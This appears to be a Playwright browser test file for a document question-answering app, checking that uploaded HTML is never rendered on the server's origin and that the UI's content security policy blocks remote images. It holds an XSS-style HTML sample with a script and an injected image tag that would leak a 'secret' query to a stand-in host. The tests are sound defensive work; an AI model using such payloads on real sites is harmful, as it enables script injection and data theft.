"""Issue 10's page-level regressions in a real browser (Debian's chromium via Playwright)
against the real app: an uploaded page never runs as a page of the server's origin, the
web UI's CSP keeps an answer from making the browser call another host, and the UI still
works (login with a key's name, upload, ingest, ask) under that CSP.
Marked ``browser``: ``python -m pytest -m browser``.
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar

import httpx
import pytest

from app.api import create_app
from app.service import Service
from app.ui import mount_ui as with_ui
from generation.llamacpp import LlamaCppGenerator
from ingest.images.describe import CnnImageAnalyzer
from retrieval.encoders import SentenceTransformerEncoder
from tests.helpers import make_service, serve_in_thread

pytestmark = pytest.mark.browser

EDITOR = "browser-editor-0123456789"
KEYS = [{"name": "editor", "key": EDITOR, "role": "ingest", "workspaces": ["default"]}]
HOSTILE = (
    b"<html><head><title>Harmless</title></head><body><h1>Report</h1>"
    b"<p>The Velkor turbine spins at 3600 rpm.</p>"
    b"<script>document.title = 'PWNED'; fetch('/api/v1/sources')</script></body></html>"
)


@pytest.fixture(scope="module")
def served(
    tmp_path_factory: pytest.TempPathFactory,
    encoder: SentenceTransformerEncoder,
    llm: LlamaCppGenerator,
) -> Iterator[tuple[str, Service]]:
    root = tmp_path_factory.mktemp("browser-security")
    service = make_service(root, encoder, llm, CnnImageAnalyzer(), api_keys=KEYS, max_tokens=48)
    with serve_in_thread(with_ui(create_app(service), service)) as url:
        yield url, service
    service.close()


class Recorder(http.server.BaseHTTPRequestHandler):
    """Another host: records every request it gets (it should get none)."""

    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        Recorder.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture()
def elsewhere() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.2", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    Recorder.hits.clear()
    yield f"http://127.0.0.2:{server.server_address[1]}"
    server.shutdown()


def login(page: Any, url: str) -> None:
    page.goto(f"{url}/ui/")
    page.locator("input[type=text], input[name=username]").first.fill("editor")
    page.locator("input[type=password]").fill(EDITOR)
    page.keyboard.press("Enter")
    page.locator("#question textarea").wait_for(timeout=60_000)


def test_an_uploaded_page_never_runs_on_our_origin(
    served: tuple[str, Service], browser: Any
) -> None:
    url, _ = served
    http = httpx.Client(base_url=url, headers={"Authorization": f"Bearer {EDITOR}"})
    job = http.post("/api/v1/ingest", files=[("files", ("report.html", HOSTILE))]).json()
    while (state := http.get(f"/api/v1/jobs/{job['id']}").json())["status"] in (
        "queued",
        "running",
    ):
        threading.Event().wait(0.2)  # polling the job as a client would
    assert state["status"] == "done", state
    answer = http.post("/api/v1/ask", json={"question": "How fast does the Velkor turbine spin?"})
    source = next(s for s in answer.json()["sources"] if s["source"].endswith("report.html"))
    link = url + source["media"]["file"]  # signed: a browser needs no key
    context = browser.new_context(accept_downloads=True)
    page = context.new_page()
    page.goto(f"{url}/demo")  # a page of our origin, as a user clicking the link would be on
    with page.expect_download() as download:
        page.evaluate(
            "(href) => { const a = document.createElement('a'); a.href = href; "
            "document.body.append(a); a.click(); }",
            link,
        )
    assert download.value.suggested_filename == "report.html"
    assert page.title() != "PWNED"
    # Opened directly, it is a download too, never a rendered page.
    direct = context.new_page()
    with pytest.raises(Exception, match=r"Download is starting|ERR_ABORTED"):
        direct.goto(link)
    assert direct.title() != "PWNED"
    context.close()


def test_the_ui_loads_no_remote_image_and_still_works(
    served: tuple[str, Service], browser: Any, elsewhere: str, tmp_path: Path
) -> None:
    url, service = served
    page = browser.new_page(viewport={"width": 1200, "height": 900})
    login(page, url)
    # What a hostile answer or source would do: put a remote picture into the page.
    blocked = page.evaluate(
        """(src) => new Promise((done) => {
            document.addEventListener('securitypolicyviolation',
                (e) => done(e.violatedDirective), {once: true});
            const img = document.createElement('img');
            img.src = src + '/leak.png?q=secret';
            document.body.append(img);
            setTimeout(() => done('no violation'), 5000);
        })""",
        elsewhere,
    )
    assert blocked.startswith("img-src"), blocked
    assert Recorder.hits == []
    # Under that CSP the UI still uploads, ingests and answers.
    note = tmp_path / "gearbox.md"
    note.write_text("# Gearbox\n\nThe Brask gearbox has 14 teeth on its pinion.\n")
    page.get_by_role("tab", name="Ingest").click()
    page.locator("#files input[type=file]").set_input_files(str(note))
    page.locator("#ingest").click()
    page.wait_for_function(
        "() => (document.querySelector('#ingest-status') || {innerText: ''})"
        ".innerText.includes('gearbox.md')",
        timeout=120_000,
    )
    assert "added" in page.locator("#ingest-status").inner_text()
    assert any(s.source.endswith("gearbox.md") for s in service.sources())
    page.get_by_role("tab", name="Ask").click()
    box = page.locator("#question textarea")
    box.fill("How many teeth are on the Brask gearbox pinion?")
    box.press("Enter")
    page.wait_for_function(
        "() => (document.querySelector('#sources') || {innerText: ''})"
        ".innerText.includes('gearbox.md')",
        timeout=120_000,
    )
    page.close()
